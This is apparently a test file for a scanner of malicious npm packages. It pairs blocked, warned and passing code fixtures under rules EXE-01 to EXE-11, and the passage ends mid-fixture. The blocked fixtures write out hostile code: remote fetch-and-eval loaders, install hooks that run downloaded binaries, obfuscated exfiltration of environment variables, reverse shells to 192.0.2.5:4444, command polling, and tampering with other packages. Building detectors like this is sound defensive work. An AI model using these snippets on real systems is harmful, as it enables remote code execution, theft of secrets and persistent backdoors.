import { asCommand, atInstall, base64, describeVerdicts, hex } from "../../support/verdicts.ts";

const url = "https://files.example.test/c";
const steal = `fetch("${url}",{method:"POST",body:JSON.stringify(process.env)})`;

describeVerdicts("EXE-01", {
  blocks: {
    "eval of an answer": `fetch("${url}").then((r) => r.text()).then((t) => eval(t));`,
    "a function of an answer": `
      const https = require("https");
      https.get("${url}", (res) => {
        let body = "";
        res.on("data", (c) => (body += c));
        res.on("end", () => new Function(body)());
      });`,
    "under other names": `
      const g = globalThis, f = g["fet" + "ch"], r = [].constructor.constructor;
      f("${url}").then(async (x) => r(await x.text())());`,
    "split over files": {
      files: {
        "index.js": `const load = require("./a"); const run = require("./b"); load().then(run);`,
        "a.js": `module.exports = async () => (await require("axios").get("${url}")).data;`,
        "b.js": `const vm = require("vm"); module.exports = (code) => vm.runInThisContext(code);`,
      },
    },
    encoded: `
      const u = Buffer.from("${base64(url)}", "base64").toString();
      const name = Buffer.from("${hex("eval")}", "hex").toString();
      fetch(u).then((r) => r.text()).then((t) => globalThis[name](t));`,
    "in an exported function": `
      module.exports = async function check() {
        const r = await fetch("${url}");
        return new Function("return " + (await r.text()))();
      };`,
    "a module made out of what came": {
      manifest: { main: "i.mjs", type: "module" },
      files: {
        "i.mjs": `const r = await fetch("https://files.example.test/x"); await import(URL.createObjectURL(new Blob([await r.text()])));`,
      },
    },
  },
  warns: {
    "a worker's part at an address that is put together": `
      const text = await (await fetch(location.search.slice(1))).text(); importScripts(URL.createObjectURL(new Blob([text])));`,
  },
  passes: {
    "a worker's part at its own address": `importScripts(self.base + "part.js");`,
    "rules for a page's browser": `
      exports.hint = async (to) => {
        const urls = await (await fetch("${url}")).json();
        const s = document.createElement("script");
        s.type = "speculationrules";
        s.textContent = JSON.stringify({ prefetch: [{ urls }] });
        document.head.append(s);
      };`,
    "a loader for the caller": `exports.load = async (u) => new Function(await (await fetch(u)).text());`,
    "an answer that is parsed": `module.exports = () => fetch("${url}").then((r) => r.json()).then((j) => JSON.parse(j.x));`,
    "an answer that is returned": `exports.get = async () => (await fetch("${url}")).text();`,
    "a template of the caller": `exports.compile = (t) => new Function("d", "return \`" + t + "\`");`,
  },
});

/** A runtime that is fetched as an archive at installation, unpacked, and what is done then. */
function fetchedRuntime(unpack: string, then: string) {
  return {
    manifest: {
      name: "sample",
      bin: { sample: "bin/run.js" },
      scripts: { postinstall: "node install.js" },
    },
    files: {
      "install.js": `
        const fs = require("fs"), path = require("path"), cp = require("child_process");
        const folder = path.join(__dirname, "runtime");
        const archive = path.join(folder, "runtime-" + process.platform + ".tgz");
        fetch("https://files.example.test/runtime-" + process.platform + ".tgz").then(async (r) => {
          fs.writeFileSync(archive, Buffer.from(await r.arrayBuffer()));
          ${unpack}
          ${then}
        });`,
      "bin/run.js": `require("child_process").spawnSync(__dirname + "/../runtime/bin/run", process.argv.slice(2), { stdio: "inherit" });`,
    },
  };
}

const unpack = `cp.spawnSync("tar", ["-xzf", archive, "-C", folder], { stdio: "inherit" });`;

/** One file for the hook that fetches a program and the command that starts it. */
function fetchedOrRun(afterwards: string) {
  return {
    manifest: {
      name: "sample",
      bin: { sample: "run.js" },
      scripts: { postinstall: "node install.js" },
    },
    files: {
      "both.js": `
        const os = require("os"), path = require("path"), https = require("https"), tar = require("tar");
        const { spawnSync } = require("child_process");
        const folder = path.join(__dirname, "binary");
        const file = path.join(folder, os.type() === "Windows_NT" ? "sample.exe" : "sample");
        const get = (url) => new Promise((done, fail) => {
          const go = (at) => https.get(at, (r) => {
            if (r.headers.location) return go(new URL(r.headers.location, at).toString());
            done(r);
          }).on("error", fail);
          go(url);
        });
        exports.run = () => spawnSync(file, process.argv.slice(2), { stdio: "inherit" });
        exports.install = async () => {
          const stream = await get("https://github.com/sample/sample/releases/download/v1/" + os.arch() + ".tgz");
          await new Promise((done) => stream.pipe(tar.x({ strip: 1, C: folder })).on("finish", done));
          ${afterwards}
        };`,
      "install.js": `require("./both").install();`,
      "run.js": `require("./both").run();`,
    },
  };
}

/** A program of which a service says which release a caller gets. */
function namedRelease(program: string) {
  return {
    files: {
      "index.js": `
        const cp = require("child_process"), path = require("path"), fs = require("fs");
        const load = require("./load");
        exports.start = async (region, words) => {
          const answer = await (await fetch("https://" + regionOf(region) + "/releases")).json();
          const folder = path.join(__dirname, "tunnel", ".v" + answer.version);
          if (!fs.existsSync(folder)) await load(answer.url, folder);
          return cp.spawn(${program}, ["run", "--name=" + words]);
        };
        const regionOf = (region) => require("./regions")[region] || region;`,
      "load.js": `
        const https = require("https"), fs = require("fs");
        module.exports = (url, to) => new Promise((done) => https.get(url, (r) => r.pipe(fs.createWriteStream(to + ".zip")).on("finish", done)));`,
      "regions.js": `module.exports = process.env.SAMPLE_REGIONS;`,
    },
  };
}

/** A program in a folder of the caller's, which a host says the release of. */
function cachedEngine(program: string): string {
  return `
    const cp = require("child_process"), path = require("path");
    exports.start = async (cache, system) => {
      const answer = await (await fetch("https://files.example.test/engine")).json();
      const folder = path.join(cache, "sample", answer.release);
      return cp.spawn(${program}, ["--port", "0"]);
    };`;
}

describeVerdicts("EXE-02", {
  blocks: {
    "what was in an archive that was fetched": fetchedRuntime(
      unpack,
      `cp.spawn(path.join(folder, "bin", "run"), ["--daemon"]).unref();`,
    ),
    "the same, after a self-test": fetchedRuntime(
      unpack,
      `cp.spawnSync(path.join(folder, "bin", "run"), ["--version"]); cp.spawn(path.join(folder, "bin", "agent"), ["--daemon"]).unref();`,
    ),
    "by what takes it apart": fetchedRuntime(
      `cp.spawnSync("tar", ["-xzf", archive, "--to-command=sh"]);`,
      "",
    ),
    "a program that is hidden": atInstall(
      `const fs = require("fs"), https = require("https"), cp = require("child_process"), os = require("os");
       const f = os.tmpdir() + "/x.exe";
       https.get("${url}", (r) => {
         const out = fs.createWriteStream(f);
         r.pipe(out);
         out.on("finish", () => cp.spawn(f, [], { detached: true, stdio: "ignore" }).unref());
       });`,
    ),
    "at load": `
      const fs = require("fs");
      (async () => {
        const b = Buffer.from(await (await fetch("http://192.0.2.9/a")).arrayBuffer());
        fs.writeFileSync("/tmp/.a", b, { mode: 0o755 });
        require("child_process").exec("/tmp/.a");
      })();`,
    "machine code that is loaded like a module": `
      const fs = require("fs"), path = require("path"), os = require("os");
      (async () => {
        const file = path.join(os.tmpdir(), "n" + Date.now() + ".node");
        fs.writeFileSync(file, Buffer.from(await (await fetch("http://203.0.113.8/n")).arrayBuffer()));
        require(file);
      })();`,
    "by commands, one to fetch and one to start": `
      const { execSync } = require("child_process");
      const to = process.env.TEMP + "\\\\host.exe";
      execSync(\`powershell -c "Invoke-WebRequest -Uri 'https://files.example.test/h' -OutFile '\${to}'"\`);
      execSync(\`start "" /b "\${to}"\`);`,
    "a download that is handed on piece by piece": atInstall(`
      const axios = require("axios"), fs = require("fs"), { exec } = require("child_process");
      axios({ url: "https://files.example.test/u", responseType: "stream" }).then(({ data }) => {
        const file = fs.createWriteStream("/tmp/.u", { mode: 0o755 });
        data.pipe(file);
        file.on("close", () => exec("/tmp/.u &"));
      });`),
    "what the hook starts in the file that also has the command": fetchedOrRun("exports.run();"),
    "a download from a mirror or else a host, started for good": {
      manifest: {
        name: "sample",
        bin: { sample: "bin/sample" },
        scripts: { postinstall: "node install.js" },
      },
      files: {
        "install.js": `
          const https = require("https"), fs = require("fs"), cp = require("child_process");
          const base = process.env.SAMPLE_MIRROR || "https://files.example.test";
          https.get(base + "/" + process.platform, (r) => {
            const chunks = [];
            r.on("data", (c) => chunks.push(c));
            r.on("end", () => {
              fs.writeFileSync(__dirname + "/agent", Buffer.concat(chunks));
              cp.execFileSync(__dirname + "/agent", ["--daemon"]);
            });
          });`,
        "bin/sample": "#!/usr/bin/env node",
      },
    },
  },
  warns: {
    "a program that a service names": namedRelease(`path.join(folder, answer.program)`),
    "a program that a host names, or else a release of its own": cachedEngine(
      `answer.program || path.join(cache, "sample", "engine")`,
    ),
    "an interpreter in a kept folder": cachedEngine(`path.join(folder, "node")`),
    "an interpreter in a folder that a service names": namedRelease(`path.join(folder, "node")`),
    "a command of which the program is named at a fixed place": asCommand(`
      const { spawnSync } = require("child_process");
      fetch("${url}").then((r) => r.json()).then((plan) => spawnSync(plan.program, ["--go"]));`),
  },
  passes: {
    "a program that only the package's command starts": fetchedOrRun(""),
    "a release of its own program that a service names": namedRelease(
      `path.join(folder, "tunnel")`,
    ),
    "a release of it for some system, unless a setting names another": cachedEngine(
      `process.env.SAMPLE_ENGINE || path.join(folder, "engine-" + system)`,
    ),
    "a runtime that is unpacked and asked for its version": fetchedRuntime(
      unpack,
      `cp.spawnSync(path.join(folder, "bin", "run"), ["--version"]);`,
    ),
    "a command that goes by a list of the project": asCommand(`
      const { spawnSync } = require("child_process"), fs = require("fs");
      const { url } = JSON.parse(fs.readFileSync("templates.json", "utf8"));
      fetch(url).then((r) => r.json()).then((template) => spawnSync(template.program, ["--go"]));`),
    "a build of this platform": {
      manifest: {
        name: "sample",
        bin: { sample: "bin/run.js" },
        scripts: { postinstall: "node install.js" },
      },
      files: {
        "install.js": `
          const fs = require("fs"), path = require("path"), cp = require("child_process");
          const version = require("./package.json").version;
          const file = path.join(__dirname, "bin", "sample");
          const url = "https://files.example.test/sample/" + version + "/" + process.platform + "-" + process.arch;
          fetch(url).then(async (r) => {
            fs.writeFileSync(file, Buffer.from(await r.arrayBuffer()));
            fs.chmodSync(file, 0o755);
            cp.execFileSync(file, ["--version"]);
          });`,
        "bin/run.js": `require("child_process").spawnSync(__dirname + "/sample", process.argv.slice(2), { stdio: "inherit" });`,
      },
    },
    "a build that a generator of releases fetches by the module that its address asks for": {
      manifest: {
        name: "sample",
        version: "1.0.0",
        bin: { sample: "run.js" },
        scripts: { postinstall: "node install.js" },
        archives: {
          "linux-x64": { url: "https://github.com/sample/sample/releases/download/v1/sample.tgz" },
        },
      },
      files: {
        "install.js": `require("./lib.js").install();`,
        "run.js": `require("./lib.js").run("sample");`,
        "lib.js": `
          const fs = require("fs"), http = require("http"), https = require("https"), path = require("path");
          const { archives } = JSON.parse(fs.readFileSync(__dirname + "/package.json", "utf8"));
          const download = (url, to) => new Promise((done) => {
            const mod = new URL(url).protocol === "https:" ? https : http;
            mod.get(url, (r) => {
              if (r.statusCode === 302) return download(r.headers.location, to).then(done);
              r.pipe(fs.createWriteStream(to)).on("finish", done);
            });
          });
          exports.install = async () => {
            const { url } = archives[process.platform + "-" + process.arch];
            const to = path.join(fs.mkdtempSync("archive-"), "sample");
            await download(url, to);
            fs.copyFileSync(to, path.join(__dirname, "bin", "sample"));
          };
          exports.run = async (bin) => {
            await exports.install();
            require("child_process").spawnSync(path.join(__dirname, "bin", bin), process.argv.slice(2));
          };`,
      },
    },
    "a release that a list names, from a mirror that a setting of its own names": {
      manifest: {
        name: "sampledriver",
        bin: { sampledriver: "bin/run.js" },
        scripts: { install: "node install.js" },
      },
      files: {
        "install.js": `
          const fs = require("fs"), os = require("os"), path = require("path"), cp = require("child_process");
          const setting = (name) => process.env[name.toUpperCase()] ?? process.env["npm_config_" + name];
          const list = (setting("sampledriver_cdnurl") || "https://files.example.test").replace(/\\/+$/, "");
          (async () => {
            const { version } = await (await fetch(list + "/" + setting("sampledriver_channel") + ".json")).json();
            const folder = path.join(setting("tmp") || os.tmpdir(), version, "sampledriver");
            const file = path.resolve(folder, process.platform === "win32" ? "sampledriver.exe" : "sampledriver");
            const { url } = await (await fetch(list + "/" + version + ".json")).json();
            const data = await fetch(url);
            fs.writeFileSync(file, Buffer.from(await data.arrayBuffer()));
            cp.spawn(file, ["--version"]);
          })();`,
        "bin/run.js": `require("child_process").spawnSync(__dirname + "/sampledriver", process.argv.slice(2));`,
      },
    },
    "a download for the caller": `
      const fs = require("fs");
      exports.save = async (u, f) => fs.writeFileSync(f, Buffer.from(await (await fetch(u)).arrayBuffer()));`,
    "data that is kept and another program": `
      const fs = require("fs"), path = require("path");
      exports.update = async () => fs.writeFileSync(path.join(__dirname, "list.json"), await (await fetch("${url}")).text());
      exports.version = () => require("child_process").execFileSync("git", ["--version"]).toString();`,
    "a download from a mirror or else a release, with a checksum": {
      manifest: {
        name: "sample",
        bin: { sample: "bin/sample" },
        scripts: { postinstall: "node install.js" },
      },
      files: {
        "install.js": `
          const https = require("https"), fs = require("fs"), path = require("path"), cp = require("child_process"), crypto = require("crypto");
          const sums = require("./sums.json");
          const base = process.env.SAMPLE_BINARY_HOST || process.env.npm_config_sample_mirror || "https://github.com/sample/sample/releases/download";
          const name = "sample-" + process.platform + "-" + process.arch;
          https.get(base + "/v1/" + name, (r) => {
            const chunks = [];
            r.on("data", (c) => chunks.push(c));
            r.on("end", () => {
              const data = Buffer.concat(chunks);
              if (crypto.createHash("sha256").update(data).digest("hex") !== sums[name]) throw new Error("checksum");
              const to = path.join(__dirname, "bin", "sample");
              fs.writeFileSync(to, data);
              cp.execFileSync(to, ["--version"]);
            });
          });`,
        "sums.json": "{}",
        "bin/sample": "#!/usr/bin/env node",
      },
    },
    "a download that follows a redirect, for the package's own command": {
      manifest: {
        name: "sample",
        bin: { sample: "bin/sample" },
        scripts: { postinstall: "node install.js" },
      },
      files: {
        "install.js": `
          const https = require("https"), fs = require("fs"), path = require("path"), cp = require("child_process");
          const to = path.join(__dirname, "bin", "sample");
          function get(url, done) {
            https.get(url, (r) => {
              if (r.statusCode === 302) return get(r.headers.location, done);
              const chunks = [];
              r.on("data", (c) => chunks.push(c));
              r.on("end", () => done(Buffer.concat(chunks)));
            });
          }
          get("https://github.com/sample/sample/releases/download/v1/sample-" + process.platform, (data) => {
            fs.writeFileSync(to, data);
            cp.execFileSync(to, ["--version"]);
          });`,
        "bin/sample": "#!/usr/bin/env node",
      },
    },
  },
});

describeVerdicts("EXE-03", {
  blocks: {
    "base64 in eval": `eval(Buffer.from("${base64(steal)}", "base64").toString("utf8"));`,
    "hex in a function": `new Function(Buffer.from("${hex(steal)}", "hex").toString())();`,
    numbers: `const c = [${[...steal].map((x) => x.charCodeAt(0) + 3).join(",")}]; (0, eval)(String.fromCharCode(...c.map((n) => n - 3)));`,
    "backwards in a timer": `setTimeout(${JSON.stringify([...steal].reverse().join(""))}.split("").reverse().join(""), 10);`,
    "a key": `
      const d = "${hex([...steal].map((x) => String.fromCharCode(x.charCodeAt(0) ^ 42)).join(""))}";
      let s = "";
      for (let i = 0; i < d.length; i += 2) s += String.fromCharCode(parseInt(d.substr(i, 2), 16) ^ 42);
      require("vm").runInThisContext(s);`,
    "split over files": {
      files: {
        "index.js": `const { a } = require("./a"), { b } = require("./b"); eval(atob(a + b));`,
        "a.js": `exports.a = "${base64(steal).slice(0, 60)}";`,
        "b.js": `exports.b = "${base64(steal).slice(60)}";`,
      },
    },
  },
  passes: {
    "an inlined worker": `
      const src = "${base64("self.onmessage = (e) => { let s = 0; for (let i = 0; i < e.data; i++) s += i * i; self.postMessage(s); };".repeat(4))}";
      exports.make = () => new Worker(URL.createObjectURL(new Blob([atob(src)], { type: "text/javascript" })));`,
    "a module of numbers": `
      const bytes = Buffer.from("${base64(`\0asm\x01\0\0\0${"\x01\x07\x01\x60\x02\x7f\x7f\x01\x7f".repeat(40)}`)}", "base64");
      exports.load = () => WebAssembly.instantiate(bytes, {});`,
    "a template function": `
      exports.template = (text) => new Function("data", "let o='';" + text.replace(/\\{(\\w+)\\}/g, "';o+=data.$1;o+='") + "return o;");`,
    "a compiler that steps through tables": `
      const flags = [${Array.from({ length: 128 }, (_, at) => (at % 3 === 0 ? 4096 : at + (at % 2) * 0x1000000)).join(",")}];
      function scan(source) {
        let out = "";
        for (let at = 0; at < source.length; at++) {
          const kind = flags[source.charCodeAt(at)] ^ at;
          out += String.fromCharCode(kind & 127) + source.slice(at, at + 1);
        }
        return out;
      }
      require.extensions[".own"] = (made, file) => made._compile(scan(require("fs").readFileSync(file, "utf8")), file);`,
    "the global object": `const g = Function("return this")(); module.exports = g.setTimeout;`,
  },
});

describeVerdicts("EXE-04", {
  blocks: {
    "a packed program": atInstall(
      `const fs = require("fs");
       const b = Buffer.from("${base64(`\x7fELF${"\x01\x02\x03\x04\x05\x06\x07\x08".repeat(60)}`)}", "base64");
       fs.writeFileSync("/tmp/.svc", b, { mode: 0o755 });
       require("child_process").spawn("/tmp/.svc", { detached: true, stdio: "ignore" }).unref();`,
    ),
    "a packed script for a shell": `
      const s = Buffer.from("${base64("#!/bin/sh\nwhile true; do sleep 5; done\n".repeat(20))}", "base64");
      require("fs").writeFileSync("/tmp/a.sh", s);
      require("child_process").exec("sh /tmp/a.sh");`,
  },
  passes: {
    "an image that is written": `
      const png = Buffer.from("${base64(`\x89PNG${"\x01\x02\x03\x04\x05\x06\x07\x08".repeat(60)}`)}", "base64");
      exports.write = (f) => require("fs").writeFileSync(f, png);`,
    "a template that is written": asCommand(
      `require("fs").writeFileSync("config.json", JSON.stringify({ a: 1 })); require("child_process").execSync("git init");`,
    ),
    "a file of the package that is started": asCommand(
      `require("child_process").spawnSync(process.execPath, [__dirname + "/index.js"], { stdio: "inherit" });`,
    ),
  },
});

describeVerdicts("EXE-05", {
  blocks: {
    "a field of an error": `
      const axios = require("axios");
      axios.get("${url}").catch((err) => {
        const handler = new Function("require", err.response.data);
        handler(require);
      });`,
    "a cookie of an answer": `
      module.exports = async () => {
        const { data } = await require("axios").get("${url}");
        return new (Function.constructor)("require", data.cookie)(require);
      };`,
  },
  passes: {
    "an error that is thrown": `exports.get = () => require("axios").get("${url}").catch((err) => { throw new Error(err.response.data.message); });`,
    "an error that is printed": `exports.get = () => fetch("${url}").catch((err) => console.error(err.message));`,
    "a function of one's own text": `exports.f = new Function("require", "return require('path')");`,
  },
});

describeVerdicts("EXE-06", {
  blocks: {
    "a hidden module at install": atInstall(
      `const m = Buffer.from("${base64("child_process")}", "base64").toString(); require(m).execSync("id");`,
    ),
    "a back door at install": atInstall(
      `const b = process.binding("spawn_sync"); b.spawn({ file: "/bin/sh", args: ["sh", "-c", "id"] });`,
    ),
  },
  passes: {
    "the global object": `module.exports = Function("return this")();`,
    "a plain name for bundlers": `const req = eval("require"); module.exports = req("fs");`,
    "an optional module": `let ws; try { ws = require("bufferutil"); } catch {} module.exports = ws;`,
    "a loader that calls the one before it": `
      const Module = require("module");
      exports.start = (hooks) => {
        const before = Module.prototype.require;
        Module.prototype.require = function (id) {
          const found = before.apply(this, arguments);
          return hooks[id] ? hooks[id](found) : found;
        };
      };`,
  },
});

function fetchedScript(protocol: string): string {
  return `
    const { spawn } = require("child_process");
    spawn("curl", ["${protocol}://files.example.test/setup"]).stdout.pipe(spawn("sh").stdin);`;
}

describeVerdicts("EXE-07", {
  blocks: {
    "a socket and a shell": `
      const net = require("net"), cp = require("child_process");
      const sh = cp.spawn("/bin/sh", []);
      const s = new net.Socket();
      s.connect(4444, "192.0.2.5", () => { s.pipe(sh.stdin); sh.stdout.pipe(s); sh.stderr.pipe(s); });`,
    "a command": `require("child_process").exec("bash -c 'bash -i >& /dev/tcp/192.0.2.5/4444 0>&1'");`,
    "a command that is encoded": atInstall(
      `require("child_process").execSync(Buffer.from("${base64("nc 192.0.2.5 4444 -e /bin/sh")}", "base64").toString());`,
    ),
    "a terminal on a connection": `
      require("child_process").spawn("python3", ["-c", 'import socket,os,pty;s=socket.socket();s.connect(("192.0.2.5",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)]\\npty.spawn("/bin/sh")']);`,
    "a terminal by itself": atInstall(
      `require("child_process").execSync("python -c 'import pty; pty.spawn(\\"/bin/bash\\")' <&3 >&3");`,
    ),
    "under other names": `
      const n = require("node:net"), { spawn: x } = require("node:child_process");
      const c = n.connect({ port: 443, host: "files.example.test" });
      const p = x("cmd.exe");
      c.on("data", (d) => p.stdin.write(d));
      p.stdout.on("data", (d) => c.write(d));`,
    "a script that loading fetches": fetchedScript("https"),
    "a script that a command fetches over an open line": asCommand(fetchedScript("http")),
    "a connection that a command opens": asCommand(`
      const s = require("net").connect(4444, "files.example.test"), sh = require("child_process").spawn("sh");
      s.pipe(sh.stdin); sh.stdout.pipe(s);`),
  },
  warns: {
    "a script that a command fetches": asCommand(fetchedScript("https")),
  },
  passes: {
    "a terminal of the caller": `exports.attach = (socket, shell) => { const p = require("child_process").spawn(shell); socket.pipe(p.stdin); p.stdout.pipe(socket); };`,
    "a start of which everything comes in": asCommand(`
      const cp = require("child_process");
      fetch(process.env.PLAN_URL).then((r) => r.json()).then((plan) => cp.spawnSync("cmd.exe", plan.args, plan.options));`),
    "a test of a terminal library": {
      files: {
        "lib/terminal.test.js": `
          const script = "const pty = require('./index'); const p = pty.spawn('node', ['-e', '1'], { env: process.env }); p.on('data', (d) => console.log(d));";
          require("child_process").spawn("node", ["-e", script]);`,
      },
    },
    "a line reader": `exports.ask = () => require("readline").createInterface({ input: process.stdin });`,
    "a proxy": `exports.proxy = (a, port, host) => { const b = require("net").connect(port, host); a.pipe(b); b.pipe(a); };`,
  },
});

describeVerdicts("EXE-08", {
  blocks: {
    "orders that are fetched": `
      const { exec } = require("child_process");
      setInterval(async () => { const r = await fetch("${url}"); exec(await r.text()); }, 5000);`,
    "orders over a socket": atInstall(
      `const net = require("net"), { execSync } = require("child_process");
       const s = net.connect(4444, "192.0.2.5");
       s.on("data", (d) => s.write(execSync(d.toString())));`,
    ),
    "an address that is no word by itself": `
      const { exec } = require("child_process");
      setInterval(async () => { const r = await fetch("${url}"); exec("open " + (await r.json()).page); }, 5000);`,
    "a program that is fetched and asked for more than its version": atInstall(`
      const cp = require("child_process");
      fetch("${url}").then((r) => r.text()).then((program) => cp.spawn(program, ["--version", "--run"]));`),
    "a command in an address that is asked for": `
      require("http").createServer((req, res) => {
        const u = new URL(req.url, "http://x");
        require("child_process").exec(u.searchParams.get("c"), (e, out) => res.end(out));
      }).listen(31337, "0.0.0.0");`,
  },
  passes: {
    "commands of the user": asCommand(
      `require("child_process").spawnSync(process.argv[2], process.argv.slice(3), { stdio: "inherit" });`,
    ),
    "a poll that is told": `exports.watch = (to, done) => setInterval(async () => done(await (await fetch(to)).json()), 1000);`,
    "a sign-in that shows the page that its service names": `
      const { exec } = require("child_process");
      (async () => {
        const device = await (await fetch("${url}", { method: "POST" })).json();
        if (process.platform === "darwin") exec(\`open \${JSON.stringify(device.page)}\`);
        else if (process.platform === "win32") exec(\`start "" \${JSON.stringify(device.page)}\`);
        else exec(\`xdg-open \${JSON.stringify(device.page)}\`);
        setInterval(() => fetch("${url}", { method: "POST", body: device.code }), 5000);
      })();`,
    "a fixed command": `setInterval(() => require("child_process").execFile("git", ["fetch"]), 60000).unref();`,
  },
});

describeVerdicts("EXE-09", {
  blocks: {
    "an address from a chain": `
      (async () => {
        const r = await fetch("https://api.mainnet-beta.solana.com", { method: "POST", body: "{}" });
        const { result } = await r.json();
        const next = await fetch(result[0].memo);
        eval(await next.text());
      })();`,
    "an address from a node of a chain under any name": `
      const ask = (method, params) =>
        fetch("https://rpc.sample.example", { method: "POST", body: JSON.stringify({ jsonrpc: "2.0", id: 1, method, params }) }).then((r) => r.json());
      ask("eth_call", [{ to: "0x00000000000000000000000000000000000000aa" }, "latest"])
        .then(({ result }) => fetch(Buffer.from(result.slice(2), "hex").toString()))
        .then((r) => r.text())
        .then((t) => new Function(t)());`,
    "an address from a channel whose name is written, when it is called": `
      exports.refresh = async () => {
        const page = await (await fetch("https://telegra.ph/sample-notes-01-02")).text();
        return fetch(/at=([^"]+)/.exec(page)[1]).then((r) => r.text()).then((t) => new Function(t)());
      };`,
    "a program from a paste": atInstall(`
      fetch("https://pastebin.com/raw/abcdef").then((r) => r.text()).then((t) => require("child_process").spawn(t.trim(), ["-q"]));`),
    "an address from a name": `
      require("dns").resolveTxt("d.example.test", (e, r) => fetch(r[0][0]).then((x) => x.text()).then((t) => require("vm").runInThisContext(t)));`,
  },
  passes: {
    "a client of a chain": `exports.memo = async (sig) => (await (await fetch("https://api.mainnet-beta.solana.com", { method: "POST", body: sig })).json()).result;`,
    "a client of any node": `
      exports.read = async (to, data) => {
        const body = JSON.stringify({ jsonrpc: "2.0", id: 1, method: "eth_call", params: [{ to, data }, "latest"] });
        return (await (await fetch("https://rpc.sample.example", { method: "POST", body })).json()).result;
      };`,
    "another protocol of the same form": `
      exports.open = async () => {
        const body = JSON.stringify({ jsonrpc: "2.0", id: 1, method: "tools/call", params: {} });
        const { result } = await (await fetch("https://rpc.sample.example", { method: "POST", body })).json();
        return fetch(result.url);
      };`,
    "a driver that is fetched in the version that is written somewhere": {
      manifest: { scripts: { postinstall: "node install.js" }, bin: { driver: "cli.js" } },
      files: {
        "index.js": "",
        "install.js": `require("./driver.js").download(process.env.DRIVER_VERSION);`,
        "cli.js": `require("./driver.js").download().then((file) => require("child_process").spawn(file, process.argv.slice(2)));`,
        "driver.js": `
          const path = require("path"), os = require("os"), util = require("util"), fs = require("fs/promises");
          const from = (process.env.DRIVER_CDN || "https://files.example.test/releases") + "/v%s/driver-%s.tar.gz";
          async function again(url) { try { return await fetch(url); } catch { return fetch(url); } }
          exports.download = async (version, folder = process.env.DRIVER_CACHE || os.tmpdir()) => {
            if (!version) {
              const text = await (await again("https://raw.githubusercontent.com/a/driver/main/Cargo.toml")).text();
              version = text.split("\\n").find((line) => line.startsWith("version = ")).split(" = ").pop().slice(1, -1);
            }
            const file = path.resolve(folder, "driver-" + version + (os.platform() === "win32" ? ".exe" : ""));
            const answer = await again(util.format(from, version, version));
            await fs.writeFile(file, Buffer.from(await answer.arrayBuffer()));
            return file;
          };`,
      },
    },
    "tables of a repository, as a list of it says": asCommand(`
      const root = "https://raw.githubusercontent.com/a/docs/main";
      const get = async (path) => (await fetch(path)).json();
      get(root + "/manifest.json").then((rows) => Promise.all(rows.map(({ uri }) => get(root + "/schemas/" + uri))));`),
    "a client of a chat that sends what is written there": `
      exports.Bot = class {
        constructor(token) { this.token = token; }
        async ask(method, body) { return (await fetch("https://api.telegram.org/bot" + this.token + "/" + method, { method: "POST", body })).json(); }
        async pass() { const { result } = await this.ask("getUpdates"); return fetch(result[0].message.text); }
      };`,
    "a record that is returned": `exports.txt = (name) => require("dns").promises.resolveTxt(name);`,
    "a version of a release": `
      exports.latest = async () => {
        const v = await (await fetch("https://raw.githubusercontent.com/a/b/main/VERSION")).text();
        return fetch("https://files.example.test/x-" + v.trim() + ".tgz");
      };`,
  },
});

describeVerdicts("EXE-11", {
  blocks: {
    "another package": atInstall(
      `const fs = require("fs"), path = require("path");
       fs.appendFileSync(path.join(__dirname, "..", "ethers", "lib", "index.js"), "x()");`,
    ),
    "in the project, at load": `
      const fs = require("fs"), path = require("path");
      fs.writeFileSync(path.join(process.cwd(), "node_modules", "express", "index.js"), "x()");`,
    "a link over a package that was removed": `
      const fs = require("fs"), path = require("path");
      const at = path.join(process.env.APP_ROOT, "node_modules", "express");
      fs.rmSync(at, { recursive: true });
      if (!fs.existsSync(at)) fs.symlinkSync(process.env.APP_OTHER, at, "dir");`,
    "a link to its own files": `
      const fs = require("fs"), path = require("path");
      const at = path.join(process.env.APP_ROOT, "node_modules", "express");
      if (!fs.existsSync(at)) fs.symlinkSync(path.join(__dirname, "other"), at, "dir");`,
    "a link in what another tool keeps in the project": {
      manifest: { name: "sample" },
      files: {
        "index.js": `
          const fs = require("fs"), path = require("path");
          fs.symlinkSync(process.env.APP_OTHER, path.resolve(process.cwd(), ".builder/server/node_modules/express"));`,
      },
    },
    "a file in what a tool of that name keeps in the project": {
      manifest: { name: "sample" },
      files: {
        "index.js": `
          const fs = require("fs"), path = require("path");
          fs.writeFileSync(path.resolve(process.cwd(), ".sample/plugins/node_modules/express/index.js"), "x()");`,
      },
    },
    "beside its own folder": `
      require("fs").writeFileSync(process.cwd() + "/node_modules/sample/../express/index.js", "x()");`,
    "an application that is installed": `
      const fs = require("fs");
      for (const app of fs.readdirSync("/Applications"))
        fs.appendFileSync("/Applications/" + app + "/Contents/Resources/main.js", "x()");`,
    "a folder above its own that is no folder of its own": atInstall(`
      const fs = require("fs"), path = require("path");
      const up = path.basename(__dirname) === "script" ? path.join(__dirname, "..", "express") : path.join(__dirname, "express");
      fs.writeFileSync(path.join(up, "index.js"), "x()");`),
    "a neighbour, from the folder that a hook runs in": atInstall(`
      const fs = require("fs"), path = require("path");
      fs.appendFileSync(path.resolve(process.cwd(), "../other/index.js"), ";require('../sample/x')");`),
  },
  passes: {
    "a cache": `require("fs").writeFileSync(process.cwd() + "/node_modules/.cache/sample/a.json", "{}");`,
    "an application that is packed where its caller says": `
      const fs = require("fs"), path = require("path");
      module.exports = function pack(output) {
        fs.writeFileSync(path.join(output, "Contents/Resources/application"), "x");
      };
      if (process.argv[2]) module.exports(process.argv[2]);`,
    "its own program, for a script that lies deeper in its repository": atInstall(`
      const fs = require("fs"), path = require("path");
      const bin = path.basename(__dirname) === "script" ? path.join(__dirname, "..", "bin") : path.join(__dirname, "bin");
      fs.linkSync(process.env.SAMPLE_PROGRAM, path.join(bin, ".sample"));`),
    "a file beside one that somebody names": `
      const fs = require("fs");
      let at = 2;
      while (at < process.argv.length) { fs.renameSync("tmp", process.argv[at]); at += 1; }`,
    "its own folder among the project's packages": `
      require("fs").writeFileSync("./node_modules/sample/.cache/results.json", "[]");`,
    "a project that is put together for a test": `
      const fs = require("fs"), os = require("os"), path = require("path");
      const dir = fs.mkdtempSync(path.join(os.tmpdir(), "check-"));
      fs.mkdirSync(path.join(dir, "node_modules"));
      fs.symlinkSync(process.cwd(), path.join(dir, "node_modules", "tool"), "dir");`,
    "a link in what it keeps in the project itself": {
      manifest: { name: "@samplejs/run" },
      files: {
        "index.js": `
          const fs = require("fs"), path = require("path");
          const at = path.resolve(process.cwd(), ".sample/plugins/node_modules/@samplejs/core");
          fs.rmSync(at, { force: true });
